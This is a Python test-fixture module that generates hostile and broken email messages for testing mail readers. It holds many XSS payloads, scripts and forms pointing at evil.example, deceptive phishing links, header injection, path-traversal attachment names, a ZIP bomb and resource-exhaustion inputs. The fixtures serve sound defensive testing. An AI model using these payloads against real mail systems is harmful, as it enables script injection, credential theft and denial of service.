"""Hostile and broken messages, for tests of everything that reads mail.

`MESSAGES` has a function for each message, by name. The functions return the bytes of a message. We wrote all of them;
none was received from anyone.
"""

import base64
import io
import zipfile
from collections.abc import Callable

MESSAGES: dict[str, Callable[[], bytes]] = {}

HEAD = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: test\r\nMIME-Version: 1.0\r\n"


def message(content: bytes, content_type: str, *fields: str, head: bytes = HEAD) -> bytes:
    """Return a message with one part."""
    lines = "".join(f"{field}\r\n" for field in (f"Content-Type: {content_type}", *fields))
    return head + lines.encode("utf-8", "surrogateescape") + b"\r\n" + content


def part(content: bytes, content_type: str, *fields: str) -> bytes:
    """Return a part of a multipart."""
    return message(content, content_type, *fields, head=b"")


def multipart(*parts: bytes, boundary: str = "b", kind: str = "mixed", end: bool = True, head: bytes = HEAD) -> bytes:
    """Return a multipart message."""
    mark = f"--{boundary}".encode()
    content = b"".join(mark + b"\r\n" + each + b"\r\n" for each in parts) + (mark + b"--\r\n" if end else b"")
    return message(content, f'multipart/{kind}; boundary="{boundary}"', head=head)


def html(content: str) -> bytes:
    """Return an HTML message in UTF-8."""
    return message(content.encode("utf-8", "surrogatepass"), "text/html; charset=utf-8")


HTML = {
    "a script": "<p>hi</p><script>alert(1)</script>",
    "a script in capitals, unclosed": "<SCRIPT SRC=//evil.example/x.js>",
    "a script tag inside of a script tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script after a null byte": "<scr\0ipt>alert(1)</script><\0script>alert(1)</script>",
    "a script in a comment that ends early": (
        "<!--><script>alert(1)</script>--> <!--[if gte IE 4]><script>x</script><![endif]-->"
    ),
    "a script with a slash": '<script/src="https://evil.example/x.js"></script>',
    "event handlers": (
        "<img src=x onerror=alert(1)><body onload=alert(1)><p/onmouseover=alert(1)>x<b onclick='x()'>y</b>"
    ),
    "an event handler after a quote": '<img alt="`><img src=x onerror=alert(1)>" title=\'" onmouseover=alert(1) x="\'>',
    "a javascript URL": "<a href='javascript:alert(1)'>x</a><a href=' jAvAsCrIpT:alert(1)'>y</a>",
    "a javascript URL with white space in it": (
        "<a href='java\tscript:alert(1)'>x</a><a href='java&#10;script:alert(1)'>y</a>"
    ),
    "a javascript URL with entities": (
        "<a href='&#106;avascript&colon;alert(1)'>x</a><a href='\x01javascript:alert(1)'>y</a>"
    ),
    "a vbscript URL": "<a href='vbscript:msgbox(1)'>x</a><img src='vbscript:x'><img src='livescript:x'>",
    "a data URL of HTML": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a><iframe src='data:text/html,x'></iframe>",
    "a data URL of SVG": "<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:image/png;base64,iVBORw0KGgo='>",
    "a blob and a file URL": "<img src='file:///etc/passwd'><a href='blob:x'>x</a><img src='\\\\evil.example\\x'>",
    "SVG": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:x'><text>x</text></a></svg>",
    "SVG with an animation": (
        "<svg><animate attributeName=href values=javascript:alert(1) /><set onbegin=alert(1)></svg>"
    ),
    "SVG with foreignObject": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "MathML": "<math><maction actiontype=statusline xlink:href='javascript:x'>x</maction></math>",
    "MathML that hides a picture": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "namespaces that are confused": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "a form": (
        "<form action=https://evil.example/><input name=password><button>Go</button><select><option>x</select></form>"
    ),
    "a button with formaction": (
        "<button formaction='javascript:alert(1)'>x</button><input type=image src=https://evil.example/x>"
    ),
    "isindex and keygen": "<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "linked style sheets": (
        "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=//evil.example/>"
    ),
    "frames": "<iframe src=https://evil.example/></iframe><frameset><frame src=x></frameset>",
    "nested frames": "<iframe srcdoc='<iframe srcdoc=&quot;<script>alert(1)</script>&quot;></iframe>'>" * 50,
    "objects": "<object data=x.swf></object><embed src=x.swf><applet code=x></applet><portal src=x></portal>",
    "video and audio": (
        "<video src=https://evil.example/x poster=//evil.example/y autoplay></video><audio src=//evil.example/>"
    ),
    "remote pictures": "<img src=https://evil.example/1><img src=//evil.example/2><img src='https:\\\\evil.example/3'>"
    "<img srcset='https://evil.example/4 2x'><table background=https://evil.example/5><td>x</table>",
    "a style sheet": "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/)}</style><p>x</p>",
    "a style sheet that leaves its element": "<style><!--</style><script>alert(1)</script>--></style><p>x</p>",
    "CSS with a URL": (
        "<p style='background:url(https://evil.example/x)'>x</p><p style='list-style:url(\"//evil.example/\")'>y</p>"
    ),
    "CSS with an expression": (
        "<p style='width:expression(alert(1))'>x</p><p style='-moz-binding:url(//evil.example/)'>y</p>"
    ),
    "CSS with escapes": (
        "<p style='b\\61ckground:u\\72l(//evil.example/)'>x</p><p style='width:e\\78pression(alert(1))'>y</p>"
    ),
    "CSS with comments": "<p style='width:exp/**/ression(alert(1));color:/*'>x</p><p style='*/red'>y</p>",
    "CSS that covers the page": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>"
    "<div style='margin-top:-999px;opacity:0'>y</div>",
    "CSS with a variable": "<p style='--x:url(//evil.example/);background:var(--x);behavior:url(x)'>x</p>",
    "CSS with an import": '<p style="@import url(https://evil.example/x.css); color: red">x</p>',
    "names that shadow the page's": "<img name=getElementById id=body><a id=location href=https://a.example/>x</a>",
    "attributes of scripts on the page": (
        "<div hx-get=/x hx-trigger=load data-x=1 class=modal is=x slot=y tabindex=1 accesskey=s>x</div>"
    ),
    "a template": "<template><script>alert(1)</script></template><slot></slot>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "a title that does not end": "<title><p>x</p><script>alert(1)</script>",
    "a textarea that ends early": (
        "<textarea></textarea><script>alert(1)</script><xmp><img src=x onerror=alert(1)></xmp>"
    ),
    "comments that do not end": "<p>before</p>" + "<!-- x " * 10_000,
    "CDATA and processing instructions": "<![CDATA[<script>alert(1)</script>]]><?php x ?><?xml-stylesheet href='x'?>",
    "attributes that do not end": "<a href='" * 10_000,
    "tags that do not end": "<" * 200_000,
    "a link with another text": "<a href=https://evil.example/login>https://www.bank.example/login</a>",
    "a link with a user name": "<a href='https://www.bank.example@evil.example/'>www.bank.example</a>",
    "a link with a backslash": (
        "<a href='https:\\\\evil.example\\@bank.example/'>bank.example</a><a href='https:evil.example'>x</a>"
    ),
    "a link with homographs": (
        "<a href='https://www.b\u0430nk.example/'>www.bank.example</a><a href='https://xn--bnk-6cd.example/'>x</a>"
    ),
    "a link with a reversed text": (
        "<a href='https://evil.example/'>\u202eelpmaxe.knab//:sptth</a><bdo dir=rtl>fdp.exe</bdo>"
    ),
    "a link with an invisible text": (
        "<a href='https://evil.example/'>bank\u200b.example</a><a href='https://b\u00adank.example/'>x</a>"
    ),
    "a link with a host that is no host": (
        "<a href='https://\u2100.\u2101..example/%00'>x</a><a href='https://[::1'>y</a>"
    ),
    "a link in a link": "<a href='https://a.example/'>a<table><tr><td><a href='https://b.example/'>b</a></table></a>",
    "a link of 100,000 characters": f"<a href='https://a.example/{'x' * 100_000}'>x</a>",
    "links to 2,000 hosts with long names": "".join(
        f"<a href='https://{'.'.join([chr(0x4E00 + n) * 20] * 12)}'>{chr(0x4E00 + n) * 20}.example</a>"
        for n in range(2_000)
    ),
    "pictures that refer to themselves": (
        "<img src='cid:self@x'><img src='cid:'><img src='cid:%00'><a href='cid:self@x'>x</a>"
    ),
    "a table of 5,000 rows": "<table><tr>"
    + "<td rowspan=65534 colspan=99999>x</td>" * 3
    + "</tr>" * 5_000
    + "</table>",
    "a picture of a million pixels": (
        "<img width=9999999999 height=9999999999 src='data:image/png;base64,x' hspace=99999>"
    ),
    "20,000 nested elements": "<div>" * 20_000 + "x",
    "20,000 nested lists": "<ul><li>" * 20_000 + "x",
    "nested tables": "<table><tr><td>" * 10_000 + "x",
    "formatting that is opened again": "".join(f"<font size={n}>" for n in range(10_000)) + "<p>x" * 10_000,
    "objects that hide end tags": "<div><object></div></object>" * 9_000,
    "tags inside of a tag": "<p" * 500_000,
    "20,000 attributes of one element in as many tags": "".join(f"<html a{n}=1>" for n in range(20_000)),
    "100,000 attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">x</p>",
    "a megabyte of styles": "<p style='" + "color:red;" * 100_000 + "'>x</p>",
    "200,000 entities": "&#x202e;&#0;&#xd800;&amp;lt;script&gt;" * 5_000 + "&" * 100_000,
    "a megabyte of entities that do not end": "&a" * 500_000,
    "text with surrogates": "<p>\ud800\udfff</p>",
}
MESSAGES |= {f"HTML: {name}": lambda content=content: html(content) for name, content in HTML.items()}


def nested(levels: int, *, boundary: str = "b{}") -> bytes:
    """Return multiparts inside of one another."""
    content = part(b"the innermost text", "text/plain")
    for level in reversed(range(levels)):
        content = multipart(content, boundary=boundary.format(level), head=HEAD if level == 0 else b"")
    return content


def zip_bomb() -> bytes:
    """Return a ZIP archive of 10 MB of zero bytes, which is itself about 10 KB large."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(10_000_000))
    return file.getvalue()


def attachment(filename: str, content_type: str = "application/octet-stream") -> bytes:
    """Return a message with an attachment; `filename` is what follows `filename` in the field."""
    return multipart(
        part(b"see the file", "text/plain"),
        part(b"content", content_type, f"Content-Disposition: attachment; filename{filename}"),
    )


MESSAGES |= {
    "nothing": lambda: b"",
    "one line end": lambda: b"\r\n",
    "null bytes": lambda: bytes(100_000),
    "all bytes": lambda: bytes(range(256)) * 1_000,
    "no header": lambda: b"just a text\r\nin two lines\r\n",
    "a header without a body": lambda: HEAD,
    "a header with a script": lambda: message(
        b"x", "text/plain", "Subject: <script>alert(1)</script>", 'X: "><img src=x onerror=alert(1)>'
    ),
    "a header with control characters": lambda: b"Subject: a\0b\x1b[31mc\x07\x85\rBcc: x\r\n\r\nx",
    "a header with encoded line ends": lambda: b"Subject: =?utf-8?q?a=0D=0ABcc:_x=00?=\r\n\r\nx",
    "a subject with a directional override": lambda: b"Subject: =?utf-8?b?4oCuZ25wLmV4ZQ==?= \xe2\x80\xaegnp\r\n\r\nx",
    "a sender with homographs": lambda: b"From: \xd0\xb0dmin@b\xd0\xb0nk.example <x@evil.example>\r\n\r\nx",
    "a header of 10 MB": lambda: b"Subject: x\r\n" + b"X: y\r\n" * 1_700_000,
    "a field of 10 MB": lambda: b"Subject: " + b"x" * 10_000_000 + b"\r\n\r\nx",
    "a field of 1,000,000 folded lines": lambda: b"Subject: x\r\n" + b" y\r\n" * 1_000_000 + b"\r\nx",
    "a header of colons": lambda: b":" * 1_000_000,
    "a header that ends with a text": lambda: b"Subject: x\r\nthis is no field\r\n\r\nx",
    "an mbox file": lambda: b"From x@example.com Mon Jan 1 00:00:00 2026\r\nSubject: x\r\n\r\ntext",
    "encoded words without end": lambda: b"Subject: " + b"=?utf-8?q?" * 20_000 + b"\r\n\r\nx",
    "20,000 encoded words": lambda: b"Subject: " + b"=?utf-8?q?=E2?= " * 10_000 + b"=?x?b?!?= " * 5_000 + b"\r\n\r\nx",
    "encoded words of many charsets": lambda: (
        b"Subject: "
        + b" ".join(
            b"=?%s?q?=AA+ABC?=" % each for each in (b"utf-7", b"punycode", b"idna", b"zlib", b"rot13", b"undefined")
        )
        + b"\r\n\r\nx"
    ),
    "10 MB in one line": lambda: message(b"x" * 10_000_000, "text/plain"),
    "10 MB of HTML in one line": lambda: message(b"<b>x" * 2_500_000, "text/html"),
    "10 MB of line ends": lambda: message(b"\n" * 10_000_000, "text/plain"),
    "10 MB of hyphens": lambda: message(b"-" * 10_000_000, "multipart/mixed; boundary=-"),
    "10 MB of lines like boundaries": lambda: message(b"--b!\r\n" * 1_700_000, "multipart/mixed; boundary=b"),
    "10 MB of boundaries": lambda: message(b"--b\r\n" * 2_000_000, "multipart/mixed; boundary=b"),
    "2,000 parts": lambda: multipart(*[part(b"x", "text/plain")] * 2_000),
    "2,000 parts with large headers": lambda: multipart(*[part(b"x", "text/plain", *["X: y"] * 600)] * 2_000),
    "2,000 parts with many parameters": lambda: multipart(*[part(b"x", "text/plain" + "; a=b" * 800)] * 2_000),
    "2,000 parts with endless parameters": lambda: multipart(*[part(b"x", 'text/plain; x="' + ';x="\\' * 800)] * 2_000),
    "1,000 levels": lambda: nested(1_000),
    "1,000 levels with one boundary": lambda: nested(1_000, boundary="b"),
    "1,000 levels that do not end": lambda: nested(1_000).replace(b"--\r\n", b"\r\n"),
    "1,000 embedded messages": lambda: HEAD + b"Content-Type: message/rfc822\r\n\r\n" * 1_000 + b"x",
    "boundaries that begin alike": lambda: multipart(
        multipart(part(b"x", "text/plain"), boundary="bb", head=b""), part(b"y", "text/plain"), boundary="b"
    ),
    "a multipart without boundary": lambda: message(b"--b\r\n\r\nx\r\n--b--\r\n", "multipart/mixed"),
    "a multipart with an empty boundary": lambda: message(b"--\r\n\r\nx\r\n----\r\n", 'multipart/mixed; boundary=""'),
    "a multipart with a boundary of 1,000 characters": lambda: multipart(
        part(b"x", "text/plain"), boundary="b" * 1_000
    ),
    "a multipart without parts": lambda: message(b"no delimiter here", "multipart/mixed; boundary=b"),
    "a multipart without end": lambda: multipart(part(b"the text", "text/plain"), end=False),
    "a multipart whose boundary is in its header": lambda: (
        HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n--b\r\n\r\nthe text\r\n--b--\r\n"
    ),
    "base64 that is broken": lambda: message(
        b"aGVsbG8gd29ybGQ=a!!\r\n====aGk", "text/plain", "Content-Transfer-Encoding: base64"
    ),
    "base64 of one digit": lambda: message(b"a", "text/plain", "Content-Transfer-Encoding: base64"),
    "base64 of a multipart": lambda: message(
        base64.b64encode(multipart(part(b"x", "text/plain"))),
        "multipart/mixed; boundary=b",
        "Content-Transfer-Encoding: base64",
    ),
    "base64 of an embedded message": lambda: message(
        base64.b64encode(html("<script>x</script>")), "message/rfc822", "Content-Transfer-Encoding: base64"
    ),
    "quoted-printable that is broken": lambda: message(
        b"a=ZZb=4\r\n=\r\n=" + b"=" * 1_000_000, "text/plain", "Content-Transfer-Encoding: quoted-printable"
    ),
    "10 MB of quoted-printable": lambda: message(
        b"=3D" * 3_300_000, "text/plain", "Content-Transfer-Encoding: quoted-printable"
    ),
    "an unknown transfer encoding": lambda: message(b"x", "text/plain", "Content-Transfer-Encoding: x-uuencode"),
    "an unknown charset": lambda: message(b"caf\xe9", "text/plain; charset=x-unknown"),
    "a charset that is a codec": lambda: message(b"x\x9c\x03\0" * 1_000, "text/plain; charset=zlib"),
    "a charset that is slow": lambda: message(b"a" * 1_000_000 + b"-" + b"9" * 100_000, "text/plain; charset=punycode"),
    "UTF-7 that is a script": lambda: message(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7"),
    "UTF-7 with surrogates": lambda: message(b"+2AA- +3/8- +2ADYAA-" * 1_000, "text/plain; charset=utf-7"),
    "UTF-16 that is a script": lambda: message(
        "<script>alert(1)</script>".encode("utf-16"), "text/html; charset=utf-16"
    ),
    "ISO-2022-JP that swallows a tag": lambda: message(
        b"<img alt='\x1b$B'><p title='\x1b(Bonerror=alert(1)'>x", "text/html; charset=iso-2022-jp"
    ),
    "ISO-2022-JP with 500,000 escapes": lambda: message(b"\x1b$B\x1b(B" * 170_000, "text/plain; charset=iso-2022-jp"),
    "a megabyte of EUC-JP": lambda: message(b"\xa4\xa2" * 520_000, "text/plain; charset=euc-jp"),
    "UTF-8 that is too long": lambda: message(b"\xc0\xbcscript\xe0\x80\xbealert(1)\xff", "text/html; charset=utf-8"),
    "a name with folders": lambda: attachment('="../../etc/passwd"'),
    "a name with backslashes": lambda: attachment('="..\\\\..\\\\windows\\\\x.exe"'),
    "a name with dots": lambda: attachment('="...."'),
    "a name with a directional override": lambda: attachment("*=utf-8''invoice%E2%80%AEfdp.exe"),
    "a name with control characters": lambda: attachment("*=utf-8''a%00b%0D%0Ac%2F..%2Fd.txt"),
    "a name of 100,000 characters": lambda: attachment(f'="{"x" * 100_000}.txt"'),
    "a name in 2,000 pieces": lambda: attachment("=x" + "".join(f"; filename*{n}*=%41" for n in range(2_000))),
    "a name with a script": lambda: attachment('="<script>alert(1)</script>.html"', "text/html"),
    "a name without an end": lambda: attachment('="' + '\\"' * 3_000),
    "a name in an encoded word": lambda: attachment('="=?utf-8?q?=2E=2E=2Fpasswd?="'),
    "a name that is a device": lambda: attachment('="con:stream"'),
    "a ZIP bomb": lambda: multipart(
        part(b"see the file", "text/plain"),
        part(
            base64.b64encode(zip_bomb()),
            "application/zip; name=zeros.zip",
            "Content-Disposition: attachment",
            "Content-Transfer-Encoding: base64",
        ),
    ),
    "a compressed text": lambda: message(zip_bomb(), "text/plain", "Content-Encoding: gzip"),
    "SVG as a picture": lambda: multipart(
        part(b"<img src='cid:svg'>", "text/html"),
        part(b"<svg onload=alert(1)/>", "image/svg+xml", "Content-ID: <svg>"),
        kind="related",
    ),
    "HTML as an attachment": lambda: multipart(
        part(b"the text", "text/plain"),
        part(b"<script>alert(1)</script>", "text/html", "Content-Disposition: attachment; filename=x.html"),
    ),
    "text that looks like HTML": lambda: message(b"<html><script>alert(1)</script></html>", "text/plain"),
    "HTML with the type of a picture": lambda: message(b"<script>alert(1)</script>", "image/png"),
    "HTML with two types": lambda: message(b"<script>alert(1)</script>", "text/plain", "Content-Type: text/html"),
    "a type without a subtype": lambda: message(b"<b>x</b>", "text"),
    "a type with a script": lambda: message(b"x", 'text/"><script>alert(1)</script>'),
    "a Content-ID with a script": lambda: message(b"x", "image/png", 'Content-ID: <"><script>alert(1)</script>>'),
    "HTML parts that refer to one another": lambda: multipart(
        part(b"<img src='cid:two'><iframe src='cid:two'>", "text/html", "Content-ID: <one>"),
        part(b"<img src='cid:one'><iframe src='cid:one'>", "text/html", "Content-ID: <two>"),
        kind="related",
    ),
    "an alternative that says something else": lambda: multipart(
        part(b"all is well", "text/plain"), part(b"<p>send money</p>", "text/html"), kind="alternative"
    ),
    "an alternative without an alternative": lambda: multipart(kind="alternative"),
    "a report with broken parts": lambda: multipart(
        part(b"it failed", "text/plain"),
        part(b"Final-Recipient: \0\r\n" * 1_000, "message/delivery-status"),
        part(b"", "message/rfc822"),
        kind="report",
    ),
}
